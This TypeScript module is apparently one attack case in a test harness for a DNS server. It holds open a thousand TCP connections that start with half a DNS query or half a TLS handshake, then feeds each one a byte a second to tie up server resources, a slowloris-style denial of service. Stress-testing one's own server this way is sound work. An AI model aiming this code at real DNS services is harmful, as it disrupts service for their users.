import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.js';

const CONNECTIONS = 1_000;
const BATCH = 100;
const DRIP_MS = 1_000;
const QUERY_BYTES = 4_000;
/** The first bytes of a connection: none, half of a length, most of a long query, and of a TLS record. */
const OPENINGS: readonly Buffer[] = [
  Buffer.alloc(0),
  Buffer.from([0x0f]),
  Buffer.concat([Buffer.from([0x0f, 0xff]), Buffer.alloc(QUERY_BYTES)]),
  Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc]),
];

/** Connections that begin in several ways, and go on with a byte a second. */
export const attack: Attack = {
  title: `${CONNECTIONS} DNS connections over TCP with half a query or half a TLS handshake`,
  async run({ host, ports }, scale, signal) {
    const sockets: Socket[] = [];
    let closed = 0;
    for (let count = 0; count < CONNECTIONS * scale && !signal.aborted; count++) {
      const socket = connect({ host, port: ports.dns, localAddress: `127.0.8.${1 + (count % 4)}` });
      socket.on('error', () => undefined);
      socket.on('close', () => closed++);
      socket.write(OPENINGS[count % OPENINGS.length] ?? Buffer.alloc(0));
      sockets.push(socket);
      if (count % BATCH === 0) await delay(5);
    }
    const drip = setInterval(() => {
      for (const socket of sockets) socket.write(Buffer.from([0]));
    }, DRIP_MS);
    await delay(this.durationMs ?? 10_000, undefined, { signal }).catch(() => undefined);
    clearInterval(drip);
    for (const socket of sockets) socket.destroy();
    return `${sockets.length} connections, ${closed} closed by the server`;
  },
};
